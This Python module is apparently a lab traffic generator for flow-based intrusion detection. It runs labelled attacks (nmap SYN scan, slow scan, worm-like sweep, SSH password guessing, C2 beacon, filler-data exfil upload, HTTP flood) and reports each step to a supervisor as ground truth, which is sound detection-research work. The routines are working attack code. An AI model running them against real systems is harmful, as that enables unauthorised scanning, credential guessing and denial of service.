"""The lab's misbehaviour: real tools and real connections, each step told to the supervisor as it is made.

Every attack runs in the attacker's own process and namespace. MITRE ATT&CK techniques are named with each.
"""

from __future__ import annotations

import asyncio
import random
import re
import socket
import time
import traceback
from asyncio.subprocess import DEVNULL, PIPE
from collections.abc import Awaitable, Callable, Mapping
from contextlib import suppress
from typing import Any

import asyncssh

from flowsage.collector.errors import FlowsageError
from flowsage.pipelines.lab.habits import ssh_login
from flowsage.pipelines.lab.node import NETWORK_ERRORS, Node, die_with_parent
from flowsage.pipelines.lab.plan import C2_NAME, DROP_ZONE_NAME, USERS

_SENT = re.compile(rb"^SENT \(([0-9.]+)s\) TCP [0-9.]+:(\d+) > ([0-9.]+):(\d+) ")


class Report:
    """Collects an attack's steps and sends them to the supervisor."""

    def __init__(self, node: Node, ident: str) -> None:
        self.node = node
        self.ident = ident

    def step(self, target: str, port: int, source_port: int = 0, time_ns: int | None = None) -> None:
        """One connection, probe or beat begins now (or began at `time_ns`)."""
        when = time.time_ns() if time_ns is None else time_ns
        self.node.send({"event": "step", "id": self.ident, "step": (when, target, port, source_port)})

    def source_ports(self, ports: set[int]) -> None:
        """Source ports that steps do not tell."""
        self.node.send({"event": "source_ports", "id": self.ident, "ports": sorted(ports)})

    def end(self, status: str, error: str | None = None) -> None:
        """The attack is over."""
        self.node.send({"event": "end", "id": self.ident, "status": status, "error": error, "time_ns": time.time_ns()})


Parameters = Mapping[str, Any]
Run = Callable[[Node, Report, Parameters], Awaitable[None]]


def _connect_from_new_port() -> tuple[socket.socket, int]:
    """A TCP socket whose source port is known before it connects."""
    channel = socket.socket(socket.AF_INET, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
    channel.bind(("0.0.0.0", 0))
    return channel, channel.getsockname()[1]


async def _touch(report: Report, target: str, port: int, payload: bytes, patience: float) -> None:
    """Connect, say `payload` where someone listens, read a little, close. Refused or unanswered is as good."""
    loop = asyncio.get_running_loop()
    channel, source_port = _connect_from_new_port()
    with channel:
        report.step(target, port, source_port)
        try:
            async with asyncio.timeout(patience):
                await loop.sock_connect(channel, (target, port))
                if payload:
                    await loop.sock_sendall(channel, payload)
                    await loop.sock_recv(channel, 4096)
        except NETWORK_ERRORS:
            pass


async def scan(node: Node, report: Report, parameters: Parameters) -> None:
    """nmap's SYN scan of every inside host (T1046)."""
    began_ns = time.time_ns()
    process = await asyncio.create_subprocess_exec(
        "nmap", "-sS", "-n", "-Pn", "--top-ports", str(parameters["top_ports"]), "--max-rate", str(parameters["rate"]),
        "--max-retries", "1", "--packet-trace", *parameters["targets"],
        stdin=DEVNULL, stdout=PIPE, stderr=PIPE, preexec_fn=die_with_parent,
    )  # fmt: skip
    assert process.stdout is not None
    assert process.stderr is not None
    source_ports: set[int] = set()
    reached: set[bytes] = set()
    try:
        async for line in process.stdout:
            if found := _SENT.match(line):
                offset, source_port, target, port = found.groups()
                source_ports.add(int(source_port))
                if target not in reached:
                    reached.add(target)
                    when = began_ns + int(float(offset) * 1e9)
                    report.step(target.decode(), int(port), int(source_port), when)
        if await process.wait():
            said = (await process.stderr.read()).decode(errors="replace").strip()
            raise FlowsageError(f"nmap ended with code {process.returncode}: {said}")
    finally:
        if process.returncode is None:
            process.kill()
            await process.wait()
        report.source_ports(source_ports)


async def slow_scan(node: Node, report: Report, parameters: Parameters) -> None:
    """A new target every few seconds, one port each (T1046, low and slow)."""
    dice = random.Random(parameters["seed"])
    for target in parameters["targets"]:
        await _touch(report, target, dice.choice(parameters["ports"]), b"", 1.0)
        await asyncio.sleep(parameters["period_s"] * dice.uniform(0.8, 1.2))


async def worm(node: Node, report: Report, parameters: Parameters) -> None:
    """Tries one port of many hosts, used or not, and leaves a copy where it is let in (T1210)."""
    copy = b"PUT 4096\n" + node.filler[:4096]
    async with asyncio.TaskGroup() as group:
        for target in parameters["targets"]:
            group.create_task(_touch(report, target, parameters["port"], copy, 2.0))
            await asyncio.sleep(1 / parameters["rate"])


async def guess(node: Node, report: Report, parameters: Parameters) -> None:
    """Wrong passwords against the jump host, a whole key exchange and login attempt each (T1110.001)."""
    dice = random.Random(parameters["seed"])
    loop = asyncio.get_running_loop()
    (target,) = parameters["targets"]
    users = [*USERS, "root", "admin", "oracle", "test"]
    for number in range(parameters["attempts"]):
        channel, source_port = _connect_from_new_port()
        try:
            report.step(target, 22, source_port)
            await asyncio.wait_for(loop.sock_connect(channel, (target, 22)), 5)
            async with await ssh_login(target, dice.choice(users), f"guess{number}", channel):
                raise FlowsageError("a guessed password was let in: the lab's passwords are too weak")
        except asyncssh.PermissionDenied:
            node.counters["guesses_refused"] += 1
        except NETWORK_ERRORS:
            node.counters["guesses_failed"] += 1
        finally:
            channel.close()
        await asyncio.sleep(parameters["period_s"] * dice.uniform(0.7, 1.3))


async def _post(report: Report, target: str, port: int, head: str, size: int, filler: bytes, rate: float) -> None:
    """One HTTP request over a new connection, its body sent at `rate` bytes/s, the answer read to its end."""
    loop = asyncio.get_running_loop()
    channel, source_port = _connect_from_new_port()
    with channel:
        report.step(target, port, source_port)
        await asyncio.wait_for(loop.sock_connect(channel, (target, port)), 5)
        lines = f"{head} HTTP/1.1\r\nHost: {target}\r\nConnection: close\r\nContent-Length: {size}\r\n\r\n"
        await loop.sock_sendall(channel, lines.encode())
        began = loop.time()
        sent = 0
        while sent < size:
            piece = filler[: min(1 << 16, size - sent)]
            await loop.sock_sendall(channel, piece)
            sent += len(piece)
            await asyncio.sleep(max(0.0, began + sent / rate - loop.time()))
        while await asyncio.wait_for(loop.sock_recv(channel, 1 << 16), 10):
            pass


async def _look_up(node: Node, name: str) -> None:
    """Ask the network's DNS first, as malware that is not burnt in does. What it says is not needed."""
    with suppress(*NETWORK_ERRORS):
        await node.resolve(name)


async def beacon(node: Node, report: Report, parameters: Parameters) -> None:
    """A small request to the command server at a period with jitter (T1071.001)."""
    dice = random.Random(parameters["seed"])
    (target,) = parameters["targets"]
    await _look_up(node, C2_NAME)
    for _ in range(parameters["beats"]):
        try:
            await _post(report, target, parameters["port"], "GET /ping", 0, b"", 1.0)
        except NETWORK_ERRORS:
            node.counters["beats_failed"] += 1
        jitter = parameters["jitter"]
        await asyncio.sleep(parameters["period_s"] * dice.uniform(1 - jitter, 1 + jitter))


async def exfil(node: Node, report: Report, parameters: Parameters) -> None:
    """A large upload to a drop zone outside, in a few requests (T1048)."""
    (target,) = parameters["targets"]
    parts = parameters["parts"]
    await _look_up(node, DROP_ZONE_NAME)
    for _ in range(parts):
        size, rate = parameters["bytes"] // parts, parameters["bytes_per_s"]
        await _post(report, target, parameters["port"], "POST /upload", size, node.filler, rate)


async def flood(node: Node, report: Report, parameters: Parameters) -> None:
    """Connections to one server, each with its request, faster than anyone needs them (T1499.002)."""
    (target,) = parameters["targets"]
    port, rate = parameters["port"], parameters["rate"]
    request = f"GET / HTTP/1.1\r\nHost: {target}\r\nConnection: close\r\n\r\n".encode()
    loop = asyncio.get_running_loop()
    began = loop.time()
    async with asyncio.TaskGroup() as group:
        for number in range(parameters["connections"]):
            group.create_task(_touch(report, target, port, request, 2.0))
            await asyncio.sleep(max(0.0, began + (number + 1) / rate - loop.time()))


RUNS: dict[str, Run] = {
    "scan": scan,
    "slow-scan": slow_scan,
    "worm": worm,
    "guess": guess,
    "beacon": beacon,
    "exfil": exfil,
    "flood": flood,
}
"""How each misbehaviour of `misbehaviour.ATTACKS` is done."""


async def run_attack(node: Node, report: Report, name: str, parameters: Parameters) -> None:
    """Run an attack to its end and report how it ended: done, stopped (cancelled), or failed with the reason."""
    try:
        await RUNS[name](node, report, parameters)
    except asyncio.CancelledError:
        report.end("stopped")
        raise
    except (*NETWORK_ERRORS, FlowsageError) as error:
        report.end("failed", str(error) or type(error).__name__)
    except Exception as error:  # a bug of ours: the truth must end all the same
        traceback.print_exc()
        report.end("failed", repr(error))
    else:
        report.end("done")
